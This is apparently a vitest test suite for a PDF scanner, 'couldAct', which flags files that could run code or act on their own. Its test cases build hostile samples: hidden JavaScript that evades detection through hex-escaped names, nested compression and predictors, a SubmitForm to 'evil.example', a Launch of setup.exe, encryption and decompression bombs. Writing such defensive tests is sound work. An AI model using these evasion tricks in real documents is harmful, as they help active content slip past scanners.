import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { describe, expect, it } from 'vitest'
import { packedPdf, scriptedNames } from '../../../tests/fixtures/hostileFiles.ts'
import { couldAct } from './couldAct.ts'

const pdf = (...parts: (string | Buffer)[]) =>
  new Blob([Buffer.concat(['%PDF-1.7\n', ...parts].map((part) => Buffer.from(part as string, 'latin1')))])
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const stream = (filter: string, content: Buffer, end = '\nendstream', start = 'stream\n') => [
  `9 0 obj << /Type /ObjStm /N 1 /First 4 ${filter} >>\n${start}`,
  content,
  `${end}\nendobj\n`,
]

async function written(fill: (document: PDFKit.PDFDocument) => void): Promise<Blob> {
  const document = new PDFDocument()
  fill(document)
  document.end()
  const chunks: Buffer[] = []
  for await (const chunk of document) chunks.push(chunk as Buffer)
  return new Blob([Buffer.concat(chunks)])
}

describe('a PDF', () => {
  it('that shows its pages and leads to others could do no more', async () => {
    const plain = await written((document) => document.text('Quittance').link(0, 0, 9, 9, 'https://example.org'))
    expect(await couldAct(plain)).toBe(false)
    expect(await couldAct(pdf(...stream('/Filter /FlateDecode', deflateSync('1 0 << /Type /Page >>'))))).toBe(false)
    for (const end of ['endstream', '\r\nendstream', '\rendstream'])
      expect(await couldAct(pdf(...stream('/Filter [/FlateDecode]', deflateSync('1 0 <<>>'), end)))).toBe(false)
    // As newer writers do it: objects in a packed part, and a table of them with a predictor.
    expect(await couldAct(pdf(packedPdf('<< /Dests << >> >>')))).toBe(false)
  })

  const packed = deflateSync(script)
  // Refused for how it is declared, whatever it holds.
  const quiet = deflateSync('1 0 <<>>')
  it.each<[string, (string | Buffer)[]]>([
    ['a script', [script]],
    ['a script under a name in other letters', [script.replace('Java', '#4a#61va')]],
    ['a script in a packed part', stream('/Filter /FlateDecode', packed)],
    ['a script in a packed part after both line breaks', stream('/Filter /Fl', packed, '\nendstream', 'stream\r\n')],
    ['a part that is packed twice', stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(packed))],
    ['a part in another packing', stream('/Filter /ASCIIHexDecode', Buffer.from('3c'))],
    ['a packing that is declared elsewhere', stream('/Filter 8 0 R', packed)],
    ['a broken packed part', stream('/Filter /FlateDecode', packed.subarray(0, 12))],
    ['a form that sends itself', ['<< /S /SubmitForm /F (http://evil.example) >>']],
    ['a program to start', ['<< /S /Launch /F (setup.exe) >>']],
    ['a script in a part that a predictor hides', [packedPdf(scriptedNames, 5)]],
    ['a part whose predictor is declared elsewhere', stream('/Filter /Fl /DecodeParms 8 0 R', quiet)],
    ['a part whose filter has a short name', stream('/F /Fl', quiet)],
    ['a part that is no plain one after a comment', stream('%\n/Filter /Fl', quiet)],
    ['a part under a name in other letters', ['1 0 obj << /Type /Obj#53tm /N 1 /First 4 >>\nstream\n']],
    ['a part that begins after a lone carriage return', stream('/Filter /Fl', quiet, '\nendstream', 'stream\r')],
    ['a part that begins after a space', stream('/Filter /Fl', quiet, '\nendstream', 'stream \n')],
    ['a part that does not call itself one', ['1 0 obj << /N 1 /First 4 /Filter /Fl >>\nstream\n', quiet]],
    ...['7 0 R', '+4', '%c\n4'].map((first): [string, (string | Buffer)[]] => [
      `a part behind a predictor that begins at ${first}`,
      [`9 0 obj << /N 1 /First ${first} /Filter /Fl /DecodeParms << /Predictor 12 /Columns 5 >> >>\nstream\n`, quiet],
    ]),
    [
      'a part behind a predictor that calls itself a table',
      [`9 0 obj << /Type /XRef /N 1 /#46irst 7 0 R /Filter /Fl /DecodeParms << /Predictor 12 >> >>\nstream\n`, quiet],
    ],
    ['what is encrypted by objects that are packed', ['trailer << /Encrypt 4 0 R >>']],
    ['what is encrypted', ['trailer << /Encrypt << /Filter /Standard >> >>']],
  ])('with %s counts as acting', async (_, parts) => {
    expect(await couldAct(pdf(...parts))).toBe(true)
  })

  it('that takes too much room unpacked counts as acting, all its parts together', async () => {
    const part = stream('/Filter /Fl', deflateSync(' '.repeat(1000)))
    expect(await couldAct(pdf(...part, ...part), 2000)).toBe(false)
    expect(await couldAct(pdf(...part, ...part), 1999)).toBe(true)
  })

  it('with a script where two pieces of a packed part meet counts as acting', async () => {
    const packedWith = (text: string) => deflateSync(text.padEnd(200_000))
    const reader = new Blob([packedWith('')]).stream().pipeThrough(new DecompressionStream('deflate')).getReader()
    const ends: number[] = []
    for (let end = 0; end < 200_000; ends.push(end)) end += (await reader.read()).value?.length ?? 200_000
    for (const end of ends.slice(0, -1)) {
      const text = `${' '.repeat(end - 5)}/JavaScript `
      expect(await couldAct(pdf(...stream('/Filter /Fl', packedWith(text)))), `at ${end}`).toBe(true)
    }
    expect(ends.length).toBeGreaterThan(2)
  })
})
